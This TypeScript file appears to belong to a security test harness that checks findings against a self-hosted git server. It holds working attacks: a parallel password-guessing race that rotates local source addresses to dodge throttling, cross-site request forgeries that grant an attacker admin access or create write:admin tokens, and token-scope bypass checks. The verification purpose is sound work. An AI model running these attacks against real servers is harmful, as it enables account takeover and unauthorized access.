// Findings 5, 7 and 8: guessing passwords in parallel, and credentials used where they should not work.
import { basic, bearer, json } from '../api.js';
import { once, type Attack } from '../attack.js';
import { describeError, request, tally } from '../http.js';
import { repoWithFiles } from '../git-push.js';

const GUESSES = 200;
const EVIL_ORIGIN = 'https://evil.example';

/** A repository of the victim's with one commit, public or private. */
const victimRepo = once(async (ctx) => {
  const { victim } = await ctx.accounts();
  const name = ctx.unique('secret');
  await ctx.api.createRepo(victim, name, { private: true });
  const dir = await ctx.scratch(name);
  await repoWithFiles(ctx.git, dir, { 'README.md': '# private\n' });
  await ctx.git.git(['push', '--quiet', ctx.api.gitUrl(victim, victim.name, name), 'main'], { cwd: dir });
  return { owner: victim, name };
});

/**
 * GUESSES wrong passwords for the victim at once, from an address of their own (another 127.x
 * address when the server is local) so that the failures they record throttle no later attack.
 */
function loginRace(name: string, localAddress: string, path: (repo: { owner: { name: string }; name: string }) => string): Attack {
  return {
    name,
    finding: '5',
    async prepare(ctx) {
      const repo = await victimRepo(ctx);
      const loopback = ['127.0.0.1', 'localhost'].includes(new URL(ctx.target.base()).hostname);
      return async (limits) => {
        const outcomes = await Promise.all(
          Array.from({ length: GUESSES }, (_, guess) =>
            request(ctx.target.base() + path(repo), {
              headers: basic(repo.owner.name, `wrong-guess-${guess}`),
              localAddress: loopback ? localAddress : undefined,
              timeoutMs: limits.remainingMs(),
              signal: limits.signal,
            }).then((answer) => String(answer.status), describeError),
          ),
        );
        return `${GUESSES} wrong passwords at once: ${tally(outcomes)}`;
      };
    },
  };
}

const csrfCollaborator: Attack = {
  name: 'csrf-basic-form',
  finding: '7',
  async prepare(ctx) {
    const { attacker, victim } = await ctx.accounts();
    const repo = await victimRepo(ctx);
    return async (limits) => {
      // What a page on evil.example makes the victim's browser send, Basic credentials cached.
      const answer = await request(`${ctx.target.base()}/${victim.name}/${repo.name}/settings/collaborators`, {
        method: 'POST',
        headers: {
          ...basic(victim.name, victim.password),
          origin: EVIL_ORIGIN,
          'sec-fetch-site': 'cross-site',
          'content-type': 'application/x-www-form-urlencoded',
        },
        body: `user=${attacker.name}&permission=admin`,
        timeoutMs: limits.remainingMs(),
        signal: limits.signal,
      });
      const permission = await ctx.api.send('GET', `/api/v1/repos/${victim.name}/${repo.name}/collaborators/${attacker.name}/permission`, {
        headers: bearer(victim.token),
      });
      const granted = permission.status === 200 ? json<{ permission: string }>(permission).permission : `HTTP ${permission.status}`;
      return `form POST ${answer.status}; attacker's permission now: ${granted}`;
    };
  },
};

const csrfToken: Attack = {
  name: 'csrf-basic-text-plain',
  finding: '7',
  async prepare(ctx) {
    const { victim } = await ctx.accounts();
    return async (limits) => {
      const answer = await request(`${ctx.target.base()}/api/v1/users/${victim.name}/tokens`, {
        method: 'POST',
        headers: {
          ...basic(victim.name, victim.password),
          origin: EVIL_ORIGIN,
          'sec-fetch-site': 'cross-site',
          'content-type': 'text/plain',
        },
        body: JSON.stringify({ name: ctx.unique('csrf'), scopes: ['write:admin', 'write:repository'] }),
        timeoutMs: limits.remainingMs(),
        signal: limits.signal,
      });
      return `text/plain POST of a token: ${answer.status}${answer.status === 201 ? ' (token created)' : ''}`;
    };
  },
};

const tokenScopes: Attack = {
  name: 'token-scope-web',
  finding: '8',
  async prepare(ctx) {
    const { victim } = await ctx.accounts();
    const secret = await victimRepo(ctx);
    const token = await ctx.api.createToken(victim, ctx.unique('readuser'), ['read:user']);
    return async (limits) => {
      const post = (path: string, form: string) =>
        request(ctx.target.base() + path, {
          method: 'POST',
          headers: { ...bearer(token), 'content-type': 'application/x-www-form-urlencoded' },
          body: form,
          timeoutMs: limits.remainingMs(),
          signal: limits.signal,
        }).then((answer) => `${answer.status}${answer.status === 303 ? ' (created)' : ''}`, describeError);
      const repo = await post('/new', `owner=${victim.name}&name=${ctx.unique('byscope')}&visibility=public`);
      const org = await post('/organizations/new', `name=${ctx.unique('scopeorg')}`);
      const dashboard = await request(`${ctx.target.base()}/`, {
        headers: bearer(token),
        timeoutMs: limits.remainingMs(),
        signal: limits.signal,
      });
      const lists = dashboard.body.toString('utf8').includes(secret.name);
      return `read:user token: POST /new ${repo}; /organizations/new ${org}; dashboard lists private repo: ${lists ? 'yes' : 'no'}`;
    };
  },
};

export const credentialAttacks: Attack[] = [
  loginRace('login-race-api', '127.0.0.3', () => '/api/v1/user'),
  loginRace('login-race-git', '127.0.0.4', (repo) => `/${repo.owner.name}/${repo.name}.git/info/refs?service=git-upload-pack`),
  csrfCollaborator,
  csrfToken,
  tokenScopes,
];
